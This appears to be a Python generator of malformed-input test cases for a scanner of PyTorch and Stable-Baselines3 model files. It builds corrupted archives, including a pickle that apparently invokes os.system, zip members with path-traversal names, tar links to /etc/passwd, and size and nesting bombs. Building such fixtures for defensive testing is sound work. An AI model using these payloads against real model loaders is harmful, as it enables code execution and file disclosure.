        "storage by an absolute path": _tensor((4,), (1,), storage=_storage(4, key="/etc/passwd")),
        "storage by a number": _tensor((4,), (1,), storage=_storage(4, key=0)),
        "storage in another place": _tensor((4,), (1,), storage=_storage(4, location=OS_SYSTEM)),
        "tensor of a tensor": _tensor((4,), (1,), storage=Code(emit(_tensor((4,), (1,))))),
        "parameter of text": call("torch._utils:_rebuild_parameter", "abc", True, {}),
        "type that is none": call("torch._utils:_rebuild_tensor_v3", _storage(4), 0, (4,), (1,),
                                  False, {}, Name("torch", "nothing"), {}),
        "size of text": call("torch:Size", "abc"),
        "size below zero": call("torch:Size", (-1,)),
        "device of a number": call("torch:device", 7),
        "numbers that are turned round": call(
            "torch._utils:_rebuild_tensor_v2", _storage(4), 0, (4,), (1,), False, {},
            {"conj": True, "neg": True}),
    }  # fmt: skip
    for title, value in values.items():
        pickled = assemble(value)
        yield _case("malformed", f"tensor {title}", _torch_zip(pickled, _0=_FOUR), "torch")
    part = ("0", -1, 5)
    identifier = ("storage", Name("torch", "FloatStorage"), "0", "cpu", 4, part)
    pickled = assemble(Code(emit(identifier) + b"Q"))
    yield _case("malformed", "tensor part of a storage that leaves",
                _legacy(pickled, (("0", _FOUR),)), "torch")  # fmt: skip
    identifier = ("storage", Name("torch", "FloatStorage"), "0", "cpu", 2**40, None)
    pickled = assemble(Code(emit(identifier) + b"Q"))
    yield _case("malformed", "tensor legacy storage that claims more",
                _legacy(pickled, (("0", _FOUR),)), "torch")  # fmt: skip
    cut = _legacy(pickled, (("0", _FOUR),))[:-9]
    yield _case("malformed", "tensor legacy file that is cut", cut, "torch")
    negative = _legacy(pickled, (("0", _FOUR),))[:-24] + struct.pack("<q", -5) + _FOUR
    yield _case("malformed", "tensor legacy storage below zero", negative, "torch")
    views = pickle.dumps(0, 2) + pickle.dumps([(1, 2, 3, 4)], 2)
    yield _case("malformed", "tensor tar part of nothing",
                _old_tar(pickle.dumps({}, 2), storages=views), "torch")  # fmt: skip
    count = pickle.dumps(2**40, 2)
    yield _case("malformed", "tensor tar with tensors without end",
                _old_tar(pickle.dumps({}, 2), tensors=count), "torch")  # fmt: skip


# --------------------------------------------------------------------------- malformed archives


def _patched(data: bytes, sign: bytes, offset: int, value: bytes, which: int = 0) -> bytes:
    """An archive with some bytes of one header changed."""
    position = -1
    for _ in range(which + 1):
        position = data.index(sign, position + 1)
    position += offset
    return data[:position] + value + data[position + len(value) :]


def _malformed_archives() -> Iterator[Case]:
    run, fine = assemble(OS_SYSTEM), pickle.dumps({}, 2)
    good = _torch_zip(fine, _0=_FOUR)
    local, central, end = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
    names = ["../evil", "/evil", "a/../../evil", "C:/evil", "a\\evil", "a//b", "."]
    by_trick = {
        "cut in the middle": good[: len(good) // 2],
        "cut at its end": good[:-1],
        "without its directory": good[: good.index(central)],
        "without members": end + bytes(18),
        "name twice": _twice(fine, run),
        "another name in its own header": _patched(good, local, 30, b"evilevil"),
        "another checksum": _patched(good, central, 16, b"\0\0\0\0"),
        "another size": _patched(good, central, 24, struct.pack("<I", 2**31)),
        "another packed size": _patched(good, central, 20, struct.pack("<I", 2**31)),
        "sizes that both lie": _patched(
            _patched(good, central, 20, struct.pack("<2I", 2**20, 2**20)),
            local, 18, struct.pack("<2I", 2**20, 2**20)),
        "offset that leaves": _patched(good, central, 42, struct.pack("<I", 2**31)),
        "offsets that overlap": _patched(good, central, 42, struct.pack("<I", 0), 2),
        "encrypted in one header": _patched(good, central, 8, b"\x01\x00"),
        "encrypted in both headers": _patched(_patched(good, central, 8, b"\x01\x00"),
                                              local, 6, b"\x01\x00"),
        "compressed in a way of its own": _patched(_patched(good, central, 10, b"\x63\x00"),
                                                   local, 8, b"\x63\x00"),
        "deflated that is none": _patched(_patched(good, central, 10, b"\x08\x00"),
                                          local, 8, b"\x08\x00"),
        "count that lies": _patched(good, end, 8, struct.pack("<2H", 60000, 60000)),
        "directory that lies elsewhere": _patched(good, end, 16, struct.pack("<I", 7)),
        "directory of another size": _patched(good, end, 12, struct.pack("<I", 2**31)),
        "two ends": good + _torch_zip(run),
        "comment that is an end": _commented(good, end + bytes(18)),
        "bytes before it": b"#!/bin/sh\n" + good,
        "bytes after it": good + b"after",
        "pickle before it": run + good,
        "two roots": _rooted(fine, run),
        "end of 64 bits that lies": good[: good.index(end)] + b"PK\x06\x06"
        + struct.pack("<Q2H2I4Q", 44, 45, 45, 0, 0, 2**62, 2**62, 2**62, 2**62) + b"PK\x06\x07"
        + struct.pack("<IQI", 0, len(good[: good.index(end)]), 1) + good[good.index(end) :],
        "sizes of 64 bits that are missing": _patched(good, central, 24, b"\xff\xff\xff\xff"),
        "byte order that is none": good.replace(b"little", b"middle"),
        "magic number of another file": b"7z\xbc\xaf\x27\x1c" + good[6:],
        "data that is no JSON": _deflated("data", b"{'a':", {"_stable_baselines3_version": b"2"}),
        "data that is deep": _deflated("data", b"[" * 500_000,
                                       {"_stable_baselines3_version": b"2"}),
        "data with a name twice": _deflated("data", b'{"a": 1, "a": 2}',
                                            {"_stable_baselines3_version": b"2"}),
        "data with an integer without end": _deflated("data", b'{"a": ' + b"9" * 100_000 + b"}",
                                                      {"_stable_baselines3_version": b"2"}),
        "data that is no base64": _sb3({"x": {":serialized:": "?!"}}),
        "data that is pickled text": _sb3({"x": {":serialized:": 7}}),
        "variables that are no dictionary": _sb3(policy__pth=_torch_zip(pickle.dumps([1], 2))),
        "tar with a link": _linked_tar(tarfile.SYMTYPE),
        "tar with a hard link": _linked_tar(tarfile.LNKTYPE),
        "tar with a path": _old_tar(fine, **{"../evil": b"x"}),
        "tar with a size below zero": _patched(_old_tar(fine), b"pickle", 124, b"-0000000001\0"),
        "tar with a size that leaves": _patched(_old_tar(fine), b"pickle", 124, b"77777777777\0"),
        "tar that is cut": _old_tar(fine)[:1000],
        "gzip that is cut": gzip.compress(run, mtime=0)[:-9],
        "gzip of nothing": b"\x1f\x8b",
        "gzip with another checksum": gzip.compress(run, mtime=0)[:-8] + bytes(8),
        "zstd of nothing": b"\x28\xb5\x2f\xfd",
        "lz4 of nothing": b"\x04\x22\x4d\x18",
        "nothing": b"",
        "zeros": bytes(10_000),
        "noise": zlib.compress(good) * 20,
    }  # fmt: skip
    for title, data in by_trick.items():
        yield _case("malformed", f"archive {title}", data, "torch")
    for index, title in enumerate(names):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", fine)
            archive.writestr(zipfile.ZipInfo(title), b"evil")
        yield _case("malformed", f"archive path {index}", buffer.getvalue(), "torch")


def _twice(first: bytes, second: bytes) -> bytes:
    """An archive with two members of one name: which one is read depends on who reads."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", first)
        archive.writestr("archive/dat2.pkl", second)
    return buffer.getvalue().replace(b"archive/dat2.pkl", b"archive/data.pkl")


def _rooted(first: bytes, second: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a/data.pkl", first)
        archive.writestr("b/data.pkl", second)
    return buffer.getvalue()


def _commented(data: bytes, comment: bytes) -> bytes:
    return data[:-2] + struct.pack("<H", len(comment)) + comment


def _linked_tar(kind: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for title in ("pickle", "storages", "tensors"):
            info = tarfile.TarInfo(title)
            info.type = kind
            info.linkname = "/etc/passwd"
            archive.addfile(info)
    return buffer.getvalue()


def write(directory: Path) -> None:
    """Write every case as a file."""
    directory.mkdir(parents=True, exist_ok=True)
    for case in cases():
        (directory / case.name).write_bytes(case.data)


if __name__ == "__main__":
    write(Path(sys.argv[1]))
